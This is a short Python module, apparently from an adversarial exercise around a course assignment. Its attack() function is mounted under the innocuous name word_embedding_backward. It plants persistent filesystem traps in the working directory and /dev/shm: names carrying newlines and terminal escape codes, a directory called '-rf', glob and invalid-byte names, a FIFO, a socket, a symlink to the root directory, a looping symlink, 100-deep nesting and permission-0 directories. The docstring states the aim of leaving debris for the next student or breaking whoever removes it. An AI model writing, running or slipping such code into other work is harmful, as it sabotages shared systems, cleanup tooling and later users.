"""Hope: a tree that cannot be removed is there for the next student, or breaks whoever removes it."""

import os
import socket

from a3 import kit

GOAL = "outlive"
ROUTE = "files"
SCORE = 25


def attack():
    """Make names, rights, depths and kinds that break a careless removal; take the names that it would need itself."""
    base = os.getcwd()
    for place in (base, "/dev/shm"):
        os.chdir(place)
        for pid in {1, os.getppid(), *range(max(1, os.getppid() - 3), os.getppid() + 3)}:
            for number in range(1, 12):
                os.makedirs(f".{pid}-{number}/a/b", exist_ok=True)
        for name in ("hostile-\n\x1b[2J", "hostile-" + "n" * 240, "-rf", "hostile-*", os.fsdecode(b"hostile-\xff\xfe")):
            kit.attempt(os.makedirs, f"{name}/x/y")
        kit.attempt(os.mkfifo, "hostile-fifo")
        kit.attempt(os.symlink, "/", "hostile-root")
        kit.attempt(os.symlink, "hostile-loop", "hostile-loop")
        with socket.socket(socket.AF_UNIX) as sock:
            kit.attempt(sock.bind, "hostile-socket")
        for _ in range(100):
            os.mkdir("hostile-deep")
            os.chdir("hostile-deep")
        os.chdir(place)
        os.makedirs("hostile-closed/inner/inner", exist_ok=True)
        kit.attempt(os.chmod, "hostile-closed/inner", 0)
        kit.attempt(os.chmod, "hostile-closed", 0)
    os.chdir(base)


word_embedding_backward = kit.mount(attack)
